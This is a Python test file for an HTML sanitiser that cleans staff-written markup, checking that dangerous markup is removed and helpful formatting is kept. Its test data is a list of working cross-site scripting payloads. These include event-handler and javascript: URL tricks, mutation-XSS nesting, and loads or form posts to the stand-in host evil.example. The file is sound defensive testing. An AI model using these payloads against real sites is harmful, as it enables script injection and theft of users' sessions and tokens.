"""Staff-written markup: what harms goes, what helps stays, and a browser's parser finds nothing else in the result."""

import html5lib
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.core.text import LINK_REL, SCHEMES, TAGS, clean_markup

REL = f'rel="{LINK_REL}"'
HARMFUL = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p/onmouseover=alert(1)//>x",
    "<a href=https://a.example onfocus=alert(1) autofocus>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import '//evil.example';</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x><base href=//evil.example>",
    "<form action=//evil.example><input name=csrf_token><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><a href="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)>?>",
    "<a<b><img/src=x\nonerror=alert(1)//",
]
ESCAPED = [
    '<a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a>',
    "&lt;img src=x onerror=alert(1)&gt;",
]
"""Harmless as they stand; they must not come to life."""
PARTS = [
    *(f"<{tag}>" for tag in sorted(TAGS)),
    *(f"</{tag}>" for tag in sorted(TAGS)),
    *(
        "<a href='https://a.example/?a=1&b=2'>",
        "<a href=javascript:x>",
        "<table>",
        "<td>",
        "<svg>",
        "<math>",
        "<style>",
    ),
    *("<script>", "</script>", "</style>", "<!--", "-->", "<", ">", "&", "&amp;lt;", '"', "'", "=", " ", "\n", "word"),
]


def faults(cleaned: str) -> list[str]:
    """Return what a browser's parser finds in a fragment beyond the few tags and the address of a link."""
    found = []
    for element in html5lib.parseFragment(cleaned, namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in TAGS:
            found.append(str(element.tag))
        for name, value in element.attrib.items():
            is_link = element.tag == "a" and name == "href" and value.lower().startswith(SCHEMES)
            if not (is_link or (element.tag, name, value) == ("a", "rel", LINK_REL)):
                found.append(f"{element.tag} {name}={value}")
    return found


@pytest.mark.parametrize("harmful", HARMFUL + ESCAPED)
@pytest.mark.parametrize("around", ["{}", "<ul><li>{}</li></ul>", "<p>before <em>{}"])
def test_nothing_harmful_is_left(harmful: str, around: str) -> None:
    cleaned = clean_markup(around.format(harmful))

    assert faults(cleaned) == []
    assert clean_markup(cleaned) == cleaned


@pytest.mark.parametrize("harmful", HARMFUL)
def test_each_harmful_text_is_seen_as_such_before_it_is_cleaned(harmful: str) -> None:
    assert faults(harmful)


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p>Dear <strong>parents</strong>,<br><em>thank you</em></p>",) * 2,
        ("<h2>Why</h2><h3>More</h3><ul><li>one</li></ul><ol><li>two</li></ol>",) * 2,
        ("<a href='https://a.example/?a=1&b=2'>x</a>", f'<a href="https://a.example/?a=1&amp;b=2" {REL}>x</a>'),
        ("<a href=mailto:us@council.example target=_blank>x</a>", f'<a href="mailto:us@council.example" {REL}>x</a>'),
        ("<a href=/privacy>x</a>", f"<a {REL}>x</a>"),
        ("<div><p>one<p>two</div>", "<p>one</p><p>two</p>"),
        ("<ul><li>one<li>two", "<ul><li>one</li><li>two</li></ul>"),
        ("<p>x<script>alert(1)</script>y</p>", "<p>xy</p>"),
        ("Stockport Family & schools", "Stockport Family &amp; schools"),
        ("1 &lt; 2 &amp; 3", "1 &lt; 2 &amp; 3"),
        ("Сім'я, اردو, 家庭, ŷ ŵ", "Сім'я, اردو, 家庭, ŷ ŵ"),
        ("", ""),
    ],
)
def test_what_helps_is_kept(html: str, kept: str) -> None:
    assert clean_markup(html) == kept


@given(st.lists(st.sampled_from(PARTS), max_size=12).map("".join) | st.text(max_size=60))
@example("<a><p><a>")
@example("<p><table><a href='https://a.example'><p>x</table><a>")
def test_cleaning_twice_is_cleaning_once(html: str) -> None:
    cleaned = clean_markup(html)

    assert faults(cleaned) == []
    assert clean_markup(cleaned) == cleaned
